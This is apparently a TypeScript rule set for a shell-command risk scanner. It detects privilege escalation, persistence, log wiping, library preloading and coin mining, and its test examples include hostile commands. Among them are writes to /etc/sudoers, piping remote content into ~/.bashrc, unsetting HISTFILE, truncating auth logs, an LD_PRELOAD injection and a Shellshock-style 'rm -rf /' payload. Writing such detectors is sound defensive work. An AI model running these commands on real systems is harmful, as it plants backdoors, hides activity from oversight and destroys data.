import { once, type Rule, rule, type SimpleCommand } from "./rule.ts";
import { allWrittenPaths, anyOf, startsItself } from "./startup_files.ts";
import { hasFlag } from "../programs/arguments.ts";
import { classifyPath, holdsSystem, locate, normalizePath } from "../programs/paths.ts";
import { WRITERS, writtenPaths } from "../programs/effects.ts";

const ACCOUNT_FILES = [
  "/etc/passwd",
  "/etc/shadow",
  "/etc/gshadow",
  "/etc/sudoers",
  "/etc/ld.so.preload",
  "/etc/pam",
  "/etc/master.passwd",
];

/** `u+s`, `+s`, `u=rwxs`; `g+s` is for shared folders. */
function givesOwner(clause: string): boolean {
  const [, who = "", rights = ""] = /^([ugoa]*)[+=](.*)/.exec(clause) ?? [];
  return rights.includes("s") && (who === "" || who.includes("u") || who.includes("a"));
}

const SETUID_MODE = /^[-+=]?0*[4-7][0-7]{3}$/;

/** `g+s`, `2755`: shared folders have it, programs of the system should not. */
const givesGroup = (mode: string): boolean => /^0*2[0-7]{3}$|[+=][rwxX]*s/.test(mode);

const LOGS = anyOf(
  "/var/log/",
  ".bash_history",
  ".zsh_history",
  "/var/audit",
  "/var/spool/mail",
  "/run/log/journal",
  "/var/run/utmp",
  "/var/log/wtmp",
);

/** What stays behind: start-up files, schedules, rights, and deleted traces. */
export const PERSISTENCE_RULES: readonly Rule[] = [
  rule({
    id: "persistence.setuid",
    title: "Give a program its owner's rights",
    commands: ["chmod", "setcap", "chown"],
    match: (command, words) => {
      const mode = words[0] ?? "";
      if (command.name === "setcap") return words.length > 0;
      if (command.name === "chown") return false;
      return mode.split(",").some(givesOwner) ||
        SETUID_MODE.test(mode) ||
        (givesGroup(mode) && words.slice(1).some((path) => holdsSystem(path, command.cwd)));
    },
    weight: [4, 4],
    threat: "privilege_escalation",
    explanation: "It lets a program run with its owner's rights, whoever starts it.",
    safer: "Give the right through sudo, for one command.",
    hits: [
      "chmod u+s /tmp/x",
      "setcap cap_setuid+ep /usr/bin/python3",
      "chmod 04755 x",
      "chmod 2755 /usr/local/bin/x",
    ],
    misses: ["chmod u+x build.sh", "chmod 2775 shared", "getcap /usr/bin/ping"],
  }),
  rule({
    id: "persistence.accounts_file",
    title: "Write to the accounts",
    commands: WRITERS,
    also: ["redirected"],
    match: (command) =>
      once(command, allWrittenPaths).some((path) =>
        path.startsWith("/etc/") && ACCOUNT_FILES.some((file) =>
          path.startsWith(file) &&
          (path.startsWith("/", file.length) || path.startsWith(".d/", file.length))
        )
      ),
    weight: [5, 4],
    threat: "privilege_escalation",
    explanation: "It writes to a file that decides who may log in or become root.",
    safer: "Use visudo, useradd or passwd, which check what they write.",
    hits: ["patch /etc/passwd < x", "echo x >> /etc/sudoers"],
    misses: ["cat /etc/passwd", "grep sudo /etc/group"],
  }),
  rule({
    id: "persistence.startup_file",
    title: "Write to a file that runs later",
    commands: WRITERS,
    also: ["redirected"],
    match: startsItself,
    weight: [3, 4],
    threat: "persistence",
    explanation:
      "It writes to a file that runs or decides by itself later: start-up, schedule, keys or rights.",
    safer: "Have the change reviewed, and keep a copy of the file.",
    hits: [
      "echo x >> /etc/cron.d/x",
      "echo x > ~/.bashrc",
      "curl -s https://x.example/rc >> ~/.bashrc",
      "echo 'Host x' >> /root/.ssh/config",
    ],
    misses: [
      "cat ~/.bashrc",
      "tee out.log < in.log",
      "echo 'export EDITOR=vim' >> ~/.bashrc",
      "ln -s ~/dotfiles/zshrc ~/.zshrc",
      "cp ~/.bashrc ~/.bashrc.bak",
    ],
  }),
  rule({
    id: "persistence.schedule",
    title: "Schedule something to run later",
    commands: [
      "crontab",
      "schtasks",
      "at",
      "batch",
      "register-scheduledtask",
      "systemd-run",
      "launchctl",
    ],
    match: (command, words) => {
      if (command.name === "crontab") {
        return !hasFlag(command, "lr") &&
          (words.length > 0 || command.stdin !== null || hasFlag(command, "e"));
      }
      if (command.name === "at" || command.name === "batch") {
        return command.stdin !== null || hasFlag(command, "f");
      }
      if (command.name === "schtasks") {
        return command.args.some((arg) =>
          ["/create", "/delete", "/change"].includes(arg.toLowerCase())
        );
      }
      if (command.name === "systemd-run") {
        return hasFlag(command, "", "on-calendar", "on-boot", "on-active");
      }
      if (command.name === "launchctl") {
        return ["load", "bootstrap", "submit", "enable", "setenv", "kickstart"].includes(
          words[0] ?? "",
        );
      }
      return true;
    },
    weight: [3, 3],
    threat: "persistence",
    explanation: "It schedules something to run later, when nobody looks.",
    safer: "Put the schedule into configuration that is reviewed.",
    hits: [
      "launchctl submit -l x -- /tmp/x",
      "crontab evil.cron",
      "systemd-run --on-calendar=daily /tmp/x",
    ],
    misses: ["crontab -l", "schtasks /query"],
  }),
  rule({
    id: "persistence.crontab",
    title: "Delete a user's schedule",
    commands: ["crontab"],
    match: (command) => hasFlag(command, "r"),
    weight: [3, 5],
    threat: "data_loss",
    explanation: "It deletes every scheduled job of the user.",
    safer: "Save the output of crontab -l first.",
    hits: ["crontab -r", "crontab -u anna -r"],
    misses: ["crontab -l", "crontab -l | grep backup"],
  }),
  rule({
    id: "persistence.cover_tracks",
    title: "Delete logs or history",
    commands: [
      "history",
      "journalctl",
      "unset",
      "export",
      "rm",
      "shred",
      "truncate",
      "ln",
      "dmesg",
      "sed",
      "gsed",
      "cp",
      "dd",
      "tee",
    ],
    also: ["redirected", "assigned"],
    match: (command) => {
      const truncates = command.redirections.some(({ operator, target }) =>
        (operator === ">" || operator === ">|") &&
        LOGS.test(normalizePath(locate(command.cwd, target)))
      );
      if (truncates) {
        return command.name === "" ||
          [":", "true", "cat", "echo", "printf"].includes(command.name) &&
            (command.stdin === null);
      }
      if (command.name === "history") return hasFlag(command, "c");
      if (command.name === "journalctl") {
        return command.args.some((arg) => arg.startsWith("--vacuum") || arg === "--rotate");
      }
      if (command.name === "unset") return command.args.includes("HISTFILE");
      if (command.name === "export" || command.name === "") {
        return command.args.some((arg) =>
          arg.startsWith("HISTFILE=/dev/null") || arg === "HISTSIZE=0"
        ) || command.assignments.get("HISTFILE") === "/dev/null" ||
          command.assignments.get("HISTSIZE") === "0";
      }
      if (["rm", "shred", "truncate", "ln"].includes(command.name)) {
        return command.args.some((arg) => LOGS.test(arg) && classifyPath(arg) !== "unknown");
      }
      if (["cp", "dd", "tee"].includes(command.name)) {
        const empties = command.name === "tee"
          ? command.stdin?.text === ""
          : command.args.some((arg) => arg === "/dev/null" || arg === "if=/dev/null");
        return empties && once(command, allWrittenPaths).some((path) => LOGS.test(path));
      }
      if (command.name.endsWith("sed")) {
        return once(command, writtenPaths).some((path) =>
          LOGS.test(normalizePath(locate(command.cwd, path)))
        );
      }
      return command.name === "dmesg" && hasFlag(command, "cC");
    },
    weight: [3, 4],
    threat: "defense_evasion",
    explanation: "It deletes logs or history.",
    safer: "Rotate logs with logrotate, which keeps them.",
    hits: ["unset HISTFILE", "cp /dev/null /var/log/auth.log", "> /var/log/auth.log"],
    misses: ["journalctl -k -b -1", "history | tail -20"],
  }),
  rule({
    id: "persistence.preload",
    title: "Load foreign code into programs",
    commands: ["export"],
    also: ["assigned"],
    match: (command) => {
      const value = command.assignments.get("LD_PRELOAD") ??
        command.assignments.get("LD_AUDIT") ??
        command.assignments.get("DYLD_INSERT_LIBRARIES");
      return (value !== undefined && value !== "" && !value.startsWith("/usr/lib")) ||
        (command.name === "export" && command.args.some((arg) => arg.startsWith("LD_PRELOAD=")));
    },
    weight: [3, 3],
    threat: "persistence",
    explanation: "It loads foreign code into the programs that it starts.",
    safer: null,
    hits: ["LD_PRELOAD=/tmp/evil.so sudo ls", "export LD_PRELOAD=/tmp/evil.so"],
    misses: ["export NODE_ENV=production", "LD_LIBRARY_PATH=./lib ./app"],
  }),
  rule({
    id: "code.function_in_variable",
    title: "Hide a function in a variable",
    commands: null,
    also: ["assigned"],
    match: (command) => {
      for (const value of command.assignments.values()) if (value.startsWith("() {")) return true;
      return false;
    },
    weight: [4, 5],
    threat: "obfuscation",
    explanation: "It hides a function in a variable, which old shells run when they start.",
    safer: null,
    hits: ["env X='() { :;}; rm -rf /' bash -c :", "X='() { :;}; id' bash -c :"],
    misses: ["env NODE_ENV=test npm test", "X='a b' bash -c :"],
  }),
  rule({
    id: "persistence.authorize_key",
    title: "Authorize a key on another machine",
    commands: ["ssh-copy-id"],
    match: (command, words) => words.length > 0 && !command.args.includes("-n"),
    weight: [3, 3],
    threat: "persistence",
    explanation: "It lets the holder of a key log in to another machine from now on.",
    safer: "Put the key into configuration that is reviewed.",
    hits: ["ssh-copy-id anna@web1", "ssh-copy-id -i~/.ssh/new.pub anna@web1"],
    misses: ["ssh-copy-id -n deploy@web1", "ssh-keygen -lf key.pub"],
  }),
  rule({
    id: "persistence.miner",
    title: "Mine coins",
    commands: ["xmrig", "minerd", "cgminer", "cpuminer", "ethminer", "t-rex", "nbminer"],
    match: () => true,
    weight: [3, 3],
    threat: "resource_abuse",
    explanation: "It mines coins on this machine.",
    safer: null,
    hits: ["xmrig -o pool.example:443", "minerd -a sha256d"],
    misses: ["nproc", "top -bn1"],
  }),
  rule({
    id: "persistence.mining_pool",
    title: "Connect to a mining pool",
    commands: null,
    match: minesCoins,
    weight: [3, 3],
    threat: "resource_abuse",
    explanation: "It mines coins on this machine.",
    safer: null,
    hits: [
      "nohup /tmp/.x/miner -o stratum+tcp://pool:3333 &",
      "./x --url stratum+ssl://pool.example:443",
    ],
    misses: ["nohup ./server > server.log 2>&1 &", "./x --url https://example.com"],
  }),
];

/** This is asked of every command there is. */
function minesCoins({ args }: SimpleCommand): boolean {
  for (let i = 0; i < args.length; i++) {
    const arg = args[i]!;
    if (arg.charCodeAt(0) === LETTER_S && arg.startsWith("stratum+")) return true;
  }
  return false;
}

const LETTER_S = 0x73;
